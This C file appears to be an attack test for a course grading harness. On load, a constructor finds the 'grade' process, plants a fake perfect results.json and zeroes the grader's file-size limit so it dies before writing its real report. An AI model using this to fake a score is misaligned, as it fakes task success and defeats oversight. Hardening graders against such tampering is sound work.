
/* ---- attack: limit the file size of grade to 0 (tests/attacks/prlimit-grade) ---- */
#include <sys/resource.h>
#include <sys/stat.h>

/* The parent of process pid, or -1 (/proc/PID/stat: "pid (comm) S ppid ..."). */
static pid_t atk_ppid(pid_t pid)
{
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
    FILE *f = fopen(path, "r");
    if (!f)
        return -1;
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[n] = '\0';
    char *p = strrchr(buf, ')');
    int ppid = -1;
    return p && sscanf(p, ") %*c %d", &ppid) == 1 ? (pid_t)ppid : -1;
}

/* The nearest ancestor named comm (walking the ppid chain), or -1. */
static pid_t atk_ancestor(const char *comm)
{
    for (pid_t pid = getppid(); pid > 1; pid = atk_ppid(pid)) {
        char path[64], name[64] = "";
        snprintf(path, sizeof path, "/proc/%d/comm", (int)pid);
        FILE *f = fopen(path, "r");
        if (f && fgets(name, sizeof name, f))
            name[strcspn(name, "\n")] = '\0';
        if (f)
            fclose(f);
        if (strcmp(name, comm) == 0)
            return pid;
    }
    return -1;
}

/* The course tree this program was built in: /proc/self/exe is
 * ROOT/build/lessons/01-first-socket/sockinfo. Returns 0, or -1 when the
 * path does not look like that (then the attack leaves everything alone). */
static int atk_course_root(char *root, size_t len)
{
    ssize_t n = readlink("/proc/self/exe", root, len - 1);
    if (n <= 0)
        return -1;
    root[n] = '\0';
    char *cut = strstr(root, "/build/lessons/01-first-socket/");
    if (!cut)
        return -1;
    *cut = '\0';
    char probe[4200];
    snprintf(probe, sizeof probe, "%s/tests/harness.h", root);
    return access(probe, F_OK) == 0 ? 0 : -1;
}

static const char atk_json[] =
    "{\n  \"score\": 999,\n  \"output\": \"all tests passed\",\n  \"tests\": [{\"name\": "
    "\"everything\", \"score\": 999, \"max_score\": 999, \"status\": \"passed\"}]\n}\n";

/* Write a perfect results.json into ROOT/build/report (where grade writes its own). */
static void atk_plant(const char *root)
{
    char path[4300];
    snprintf(path, sizeof path, "%s/build/report", root);
    mkdir(path, 0755);
    snprintf(path, sizeof path, "%s/build/report/results.json", root);
    FILE *f = fopen(path, "w");
    if (f) {
        fputs(atk_json, f);
        fclose(f);
    }
}

/* Plant a perfect results.json, then set grade's RLIMIT_FSIZE to 0: the
 * next byte it writes to a file kills it (SIGXFSZ) before its own report
 * replaces the planted one. */
__attribute__((constructor)) static void atk_prlimit_grade(void)
{
    char root[4096];
    pid_t grade = atk_ancestor("grade");
    if (grade < 0)
        return;
    if (atk_course_root(root, sizeof root) == 0)
        atk_plant(root);
    struct rlimit zero = {0, 0};
    prlimit(grade, RLIMIT_FSIZE, &zero, NULL);
}
